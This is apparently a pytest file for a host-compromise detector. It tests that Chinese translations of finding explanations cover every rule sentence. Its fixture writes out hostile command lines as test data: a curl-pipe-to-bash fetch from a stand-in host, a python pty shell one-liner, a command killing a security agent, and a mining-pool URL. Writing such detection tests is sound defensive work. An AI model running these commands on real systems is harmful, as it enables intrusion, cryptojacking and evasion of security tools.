"""Chinese explanations of findings: the catalog is well-formed, every sentence the detection
rules write has a translation (read from the rules' source, and from the findings real fixtures
produce), host values go through unchanged, and what the catalog does not know stays English."""

from __future__ import annotations

import ast
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from backends.facts import gather_facts
from backends.facts_decode import decode_facts
from domain.detect import Detector, commands
from domain.detect import catalog as rules
from domain.explanations import explanation_in, load_catalog, parse_catalog, translate
from domain.findings import Finding
from domain.model import HostSnapshot, Process, Socket
from tests.fakes import T0, metrics, process, socket_row
from tests.sysroots import Sysroot

DETECT = Path(__file__).resolve().parent.parent / "domain" / "detect"
CJK = re.compile(r"[\u4e00-\u9fff]")
ANY_RULE = "*"


def zh_of(rule_id: str, text: str) -> str | None:
    """The translation for ``rule_id`` (for any rule when ANY_RULE), or None."""
    cat = load_catalog()
    if rule_id != ANY_RULE:
        return translate(cat, rule_id, text)
    for rule in {e.rule for e in cat.entries}:
        out = translate(cat, rule, text)
        if out is not None:
            return out
    return None


def assert_translated(rule_id: str, text: str) -> None:
    zh = zh_of(rule_id, text)
    assert zh is not None, f"{rule_id}: no translation for {text!r}"
    assert zh != text and CJK.search(zh), (rule_id, text, zh)


# -- (1) the catalog -----------------------------------------------------------------------------


def test_catalog_loads_patterns_compile_and_rules_exist() -> None:
    cat = load_catalog()
    assert len(cat.entries) >= 62
    known = {r.id for r in rules.RULES}
    for entry in cat.entries:
        assert entry.rule in known, entry.rule
        assert CJK.search(entry.phrase.zh), entry
        if entry.phrase.pattern is not None:
            assert entry.phrase.pattern.groupindex  # a pattern without groups should be `en`
    for phrases in cat.phrase_sets.values():
        assert all(zh.strip() and not zh.isascii() for zh in phrases.exact.values())
    assert {e.rule for e in cat.entries} == known  # every built-in rule has its sentences


@pytest.mark.parametrize(
    "bad",
    [
        '[[explanation]]\nrule = "X"\npattern = "(unclosed"\nzh = "中"',
        '[[explanation]]\nrule = "X"\npattern = "(?P<a>.+)"\nzh = "{b}"',
        '[[explanation]]\nrule = "X"\nen = "a"\npattern = "a"\nzh = "中"',
        '[[explanation]]\nrule = "X"\npattern = "(?P<a>.+)"\nzh = "{a}"\nphrases = { a = "no" }',
        '[[explanation]]\nrule = "X"\nen = "a"',
        "[[explanation]\n",
    ],
)
def test_malformed_catalogs_fail_when_loaded(bad: str) -> None:
    with pytest.raises(ValueError):
        parse_catalog(bad)


# -- (2) static coverage: every sentence in the rules' source -----------------------------------


def _rule_of(node: ast.expr, assigned: dict[str, str]) -> str:
    """The rule id of ctx.finding's first argument: cat.BY_ID["X"], or a name assigned one."""
    if (
        isinstance(node, ast.Subscript)
        and isinstance(node.slice, ast.Constant)
        and isinstance(node.slice.value, str)
    ):
        return node.slice.value
    if isinstance(node, ast.Name) and node.id in assigned:
        return assigned[node.id]
    return ANY_RULE  # chosen at run time (file_lines: by the file's kind)


def _strings_assigned(func: ast.AST, name: str) -> list[str]:
    """Every string literal ``func`` assigns to ``name`` (also in tuple assignments), each also
    with every literal later appended by ``name += "..."``."""
    values: list[str] = []
    suffixes: list[str] = []
    for node in ast.walk(func):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                pairs: list[tuple[ast.expr, ast.expr]] = [(target, node.value)]
                if isinstance(target, ast.Tuple) and isinstance(node.value, ast.Tuple):
                    pairs = list(zip(target.elts, node.value.elts, strict=False))
                for t, v in pairs:
                    if (
                        isinstance(t, ast.Name)
                        and t.id == name
                        and isinstance(v, ast.Constant)
                        and isinstance(v.value, str)
                    ):
                        values.append(v.value)
        elif (
            isinstance(node, ast.AugAssign)
            and isinstance(node.target, ast.Name)
            and node.target.id == name
            and isinstance(node.value, ast.Constant)
            and isinstance(node.value.value, str)
        ):
            suffixes.append(node.value.value)
    return values + [v + s for v in values for s in suffixes]


def source_sentences() -> Iterator[tuple[str, str, str]]:
    """(where, rule id, sentence) for every literal explanation a ctx.finding call passes."""
    for path in sorted(DETECT.glob("*.py")):
        tree = ast.parse(path.read_text("utf-8"))
        for func in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]:
            assigned = {
                t.id: node.value.slice.value
                for node in ast.walk(func)
                if isinstance(node, ast.Assign)
                and isinstance(node.value, ast.Subscript)
                and isinstance(node.value.slice, ast.Constant)
                and isinstance(node.value.slice.value, str)
                for t in node.targets
                if isinstance(t, ast.Name)
            }
            for call in ast.walk(func):
                if not (
                    isinstance(call, ast.Call)
                    and isinstance(call.func, ast.Attribute)
                    and call.func.attr == "finding"
                    and len(call.args) >= 2
                ):
                    continue
                where = f"{path.name}:{call.lineno}"
                rule = _rule_of(call.args[0], assigned)
                arg = call.args[1]
                if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
                    yield where, rule, arg.value
                elif isinstance(arg, ast.Name):
                    for text in _strings_assigned(func, arg.id):
                        yield where, rule, text


def test_every_literal_explanation_in_the_rules_translates() -> None:
    found = list(source_sentences())
    assert len(found) >= 35  # the parse really found the rules' sentences
    for where, rule, text in found:
        zh = zh_of(rule, text)
        assert zh is not None, f"{where} {rule}: no translation for {text!r}"
        assert CJK.search(zh), where


def test_every_call_site_is_seen() -> None:
    """The parse sees every ctx.finding call (the count grep gives), so none is skipped."""
    calls = sum(
        1
        for path in DETECT.glob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "finding"
    )
    grepped = sum(p.read_text("utf-8").count("ctx.finding(") for p in DETECT.glob("*.py"))
    assert calls == grepped >= 62


def test_every_marker_phrase_translates() -> None:
    """What a command line does (the phrases rules join into their sentences) is all known."""
    markers = load_catalog().phrase_sets["marker"]
    whats = [what for _, _, _, what, _, _ in commands._PATTERNS]
    whats.append("names a known mining pool")  # the pool-host pattern built from the config
    tree = ast.parse((DETECT / "commands.py").read_text("utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Marker":
            arg = node.args[3]
            if isinstance(arg, ast.Constant):
                whats.append(str(arg.value))
            elif isinstance(arg, ast.JoinedStr):  # f"... ({name}) ...": a sample name
                whats.append(
                    "".join(
                        str(v.value) if isinstance(v, ast.Constant) else ".cache"
                        for v in arg.values
                    )
                )
    assert len(whats) >= 27
    for what in whats:
        sentence = f"The command line {what}."
        zh = translate(load_catalog(), "PROC-MINER-CMDLINE", sentence)
        assert zh is not None and CJK.search(zh), what
    assert markers.split == "; it "


# Every f-string sentence, as the rules build it (one per wording they can produce).
F_STRING_SENTENCES = [
    ("ACCT-RECENT-PASSWORD", "The password of this account was set 3 day(s) ago."),
    ("FILE-TEMP-EXEC", "A program (ELF binary) sits in a temporary directory, where droppers "
     "put their payloads."),
    ("FILE-SETID", "A root set-uid program sits outside the system directories; run by anyone, "
     "it runs with its owner's rights."),
    ("FILE-SETID", "A set-gid program sits outside the system directories; run by anyone, it "
     "runs with its owner's rights."),
    ("NET-LISTENER-BACKDOOR-PORT", "Something listens on loopback on port 4444, a port "
     "backdoors and bind shells favour."),
    ("NET-LISTENER-UNEXPECTED", "Something listens on an interface on TCP port 31337, which is "
     "not in the allowlist."),
    ("NET-LISTENER-UNEXPECTED", "Something listens on all interfaces on TCP port 8081, which is "
     "not in the allowlist and appeared while sickbay was watching."),
    ("NET-EXPOSED-SERVICE", "Docker API (plain HTTP, no authentication) listens on all "
     "interfaces on port 2375; exposed, it is a common way in for miners."),
    ("NET-EXPOSED-SERVICE", "kubelet API listens on all interfaces on port 10250; exposed, it is "
     "a common way in for miners."),
    ("NET-FANOUT", "The process connects to 12 SSH servers at once, as worms spreading over SSH "
     "do."),
    ("NET-FANOUT", "The process connects to 10 Redis/Docker API ports, as worms looking for "
     "victims do."),
    ("NET-FANOUT", "The process is opening connections to 80 hosts, most unanswered: a scan."),
    ("NET-FANOUT", "The process talks to 60 different hosts at once."),
    ("PERS-CRON", "This cron script line runs a program from a temporary directory."),
    ("PERS-SYSTEMD", "This unit file line pipes a download straight into a shell; it names a "
     "known mining pool; the program has a miner's name."),
    ("PERS-RC", "This start-up script line sets LD_PRELOAD, which injects a library into every "
     "program started."),
    ("PERS-PROFILE", "This shell start-up line turns off or clears shell history."),
    ("PERS-RECENT-CHANGE", "This start-up file was changed 2 day(s) ago; check the change is "
     "yours."),
    ("PROC-EVASION", "The command line uninstalls or kills the cloud security agent (Alibaba "
     "aegis / Tencent YunJing)."),
    ("PROC-KTHREAD-IMPOSTOR", "A user-space process is named like a kernel thread; real kernel "
     "threads are marked by the kernel and this one is not."),
    ("PROC-WEB-SPAWN", "A database process started a shell or downloader, the way a web shell "
     "or an exploited service does."),
    ("PROC-EXE-MEMFD", "The process runs from memory only (no file on disk) and has no name, as "
     "fileless malware does."),
    ("RES-CPU-SUSTAINED", "CPU has been 97% busy for 10 minutes or more; the busiest processes "
     "are named in the evidence."),
    ("RES-CPU-PEAKS", "CPU has been pinned 5 separate times in the last 24 hours, the pattern of "
     "a miner that pauses when watched."),
    ("RES-HIDDEN-LOAD", "The CPU is busy (180% of one CPU) but the processes listed account for "
     "only 3%; a hidden process can cause this."),
    ("RES-DISK-LATENCY", "Disk I/O has taken 250 ms per request for minutes; heavy hidden I/O "
     "(or a failing disk) does this."),
    ("RES-PACKET-RATE", "The host moves 90000 packets/s, 45 times its usual rate."),
    ("RES-SHM-GROWTH", "/dev/shm grew by 512 MiB in 30 minutes; payloads are often unpacked "
     "there because it leaves nothing on disk."),
    ("TAMP-IMMUTABLE", "The file is marked append-only, so even root cannot replace it until "
     "the flag is removed: miners lock their files this way."),
    ("TAMP-LOG-SHRUNK", "The file shrank from 10240 to 12 bytes without being rotated: it was "
     "truncated."),
    ("TAMP-STALE-PACKAGES", "No package was installed or updated for 400 days; the system is "
     "likely missing security fixes."),
    ("PROC-PRELOAD-ENV", "A library is injected into this process from outside the system's "
     "library directories through LD_PRELOAD."),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "text"), F_STRING_SENTENCES)
def test_f_string_sentences_translate(rule: str, text: str) -> None:
    assert_translated(rule, text)


# -- (3) dynamic coverage: the findings real fixtures produce -----------------------------------


def _hostile_snapshot() -> HostSnapshot:
    """Processes and sockets that set off most process and network rules."""
    procs: tuple[Process, ...] = (
        process(1, "systemd", 0.1, exe="/usr/lib/systemd/systemd", cmdline=("/sbin/init",), ppid=0),
        process(10, "kdevtmpfsi", exe="/tmp/kdevtmpfsi"),
        process(20, "java", cmdline=("java", "-jar", "a.jar", "-o", "stratum+ssl://1.2.3.4:443")),
        process(21, "sh", exe="/usr/bin/dash", cmdline=("sh", "-c", "curl -s http://x/i | bash")),
        process(22, "svc2", cmdline=("svc2", "--algo=rx/0", "--cpu-priority", "5")),
        process(23, "sh", exe="/usr/bin/dash", cmdline=("sh", "-c", "chattr +i /x; pkill aegis")),
        process(
            24,
            "python3",
            cmdline=("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')"),
        ),
        process(40, "kd", exe="/dev/shm/.x/kd", exe_deleted=True, start_time=T0 - 3600),
        process(41, "app", exe="/srv/app/bin/app", exe_deleted=True, start_time=T0 - 3600),
        process(42, "nginx", exe="/usr/sbin/nginx", exe_deleted=True, start_time=T0 - 3600),
        process(
            50,
            "runc:[1:CHILD]",
            exe="/memfd:runc_cloned:/proc/self/exe",
            exe_memfd=True,
            exe_deleted=True,
        ),
        process(51, "supervisor", exe="/memfd:sealed-abc", exe_memfd=True, exe_deleted=True),
        process(52, "x", 180.0, exe="/memfd:sealed-abc", exe_memfd=True, exe_deleted=True),
        process(61, "b", exe="/var/tmp/.cache/b"),
        process(70, "kworker/0:2", exe="/usr/bin/python3"),
        process(71, "bash", exe="/usr/bin/bash", cmdline=("[kworker/u8:1]",)),
        process(81, "sshd", exe="/var/lib/sshd"),
        process(90, "bash", exe="/usr/bin/bash", cmdline=("bash",)),
        process(91, "bash", exe="/usr/bin/bash", cmdline=("bash",)),
        process(92, "bash", exe="/usr/bin/bash", cmdline=("bash",)),
        process(100, "redis-server", exe="/usr/bin/redis-server"),
        process(101, "sh", ppid=100, exe="/usr/bin/dash", cmdline=("sh", "-c", "id")),
        process(110, "php-fpm8.2", exe="/usr/sbin/php-fpm8.2"),
        process(111, "sh", ppid=110, exe="/usr/bin/dash", cmdline=("sh", "-c", "x")),
        process(150, "masscan"),
        process(160, "minerd", exe="/opt/m/minerd", cmdline=("minerd",)),
    )

    def conn(pid: int, remote: str, port: int, name: str = "bash") -> Socket:
        return socket_row(
            40000 + pid,
            pid,
            name,
            local_addr="10.0.0.2",
            remote_addr=remote,
            remote_port=port,
            state="ESTABLISHED",
        )

    sockets = (
        conn(90, "198.51.100.7", 4444),
        conn(91, "127.0.0.1", 4444),
        socket_row(5555, 92, "bash"),
        conn(160, "198.51.100.9", 3333, "minerd"),
        socket_row(6379, 100, "redis-server", local_addr="0.0.0.0"),
        socket_row(31337, 160, "minerd", local_addr="0.0.0.0"),
        socket_row(8081, 160, "minerd", local_addr="10.0.0.2"),
    )
    return HostSnapshot(
        host="h",
        hostname="h",
        taken_at=T0,
        source="test",
        metrics=metrics(1),
        processes=procs,
        sockets=sockets,
    )


def _assert_all_translate(findings: list[Finding]) -> set[str]:
    for f in findings:
        zh = explanation_in(f.rule_id, f.explanation, "zh")
        assert zh != f.explanation and CJK.search(zh), (f.rule_id, f.explanation)
    return {f.rule_id for f in findings}


def test_findings_of_hostile_processes_and_sockets_translate() -> None:
    findings = Detector().evaluate(_hostile_snapshot(), None)
    seen = _assert_all_translate(findings)
    assert len(findings) >= 25
    assert {"PROC-MINER-CMDLINE", "PROC-EXE-DELETED", "PROC-REVERSE-SHELL", "NET-POOL-PORT"} <= (
        seen
    )
    assert {"NET-EXPOSED-SERVICE", "NET-LISTENER-BACKDOOR-PORT"} <= seen


def test_findings_of_the_compromised_root_translate(compromised_root: Sysroot) -> None:
    request = Detector().facts_request(None)
    facts = decode_facts(
        gather_facts(str(compromised_root.root), probe_paths=request.probe_paths),
        f"sysroot:{compromised_root.root}",
    )
    findings = Detector().evaluate(None, facts, now=time.time())
    seen = _assert_all_translate(findings)
    assert len(findings) >= 15
    assert {"PERS-CRON", "PERS-SYSTEMD", "PERS-PRELOAD", "PERS-AUTHKEY-COMMAND"} <= seen


# -- (4) host values stay verbatim, (5) unknown text stays English ------------------------------


def test_host_values_inside_a_sentence_are_kept_verbatim() -> None:
    odd = ".x)\u202e[red]{0}\x1b]0;PWN\x07 ;it"
    text = f"This cron entry runs a program from a hidden directory ({odd})."
    zh = explanation_in("PERS-CRON", text, "zh")
    assert odd in zh and zh.startswith("此 cron 条目") and zh.endswith("。")
    braces = "The file shrank from {x} to {0} bytes without being rotated: it was truncated."
    assert "{x}" in explanation_in("TAMP-LOG-SHRUNK", braces, "zh")
    service = "Fancy<DB>{name}"
    zh = explanation_in(
        "NET-EXPOSED-SERVICE",
        f"{service} listens on all interfaces on port 9; exposed, it is a common way in for "
        "miners.",
        "zh",
    )
    assert zh.startswith(service + " ") and CJK.search(zh)


def test_unknown_text_falls_back_to_english() -> None:
    custom = "Our own rule fired: see the runbook."
    assert explanation_in("CUSTOM-1", custom, "zh") == custom
    # A known sentence under the wrong rule, an unknown marker, odd input: all English.
    known = "A network scanner is running; infected servers scan for the next victims."
    assert explanation_in("ACCT-NEW", known, "zh") == known
    unknown_marker = "The command line does something new."
    assert explanation_in("PROC-EVASION", unknown_marker, "zh") == unknown_marker
    for odd in ("", "\x00" * 5000, "This cron entry .", "{}" * 100):
        assert explanation_in("PERS-CRON", odd, "zh") == odd
    assert explanation_in("PROC-SCANNER", known, "en") == known
    assert CJK.search(explanation_in("PROC-SCANNER", known, "zh"))


def test_finding_details_screen_shows_the_chinese_explanation() -> None:
    from screens.finding import finding_text  # noqa: PLC0415 - the UI module, only here

    findings = Detector().evaluate(_hostile_snapshot(), None)
    f = next(x for x in findings if x.rule_id == "PROC-SCANNER")
    assert "网络扫描器" in finding_text(f, "zh").plain
    assert f.explanation in finding_text(f, "en").plain
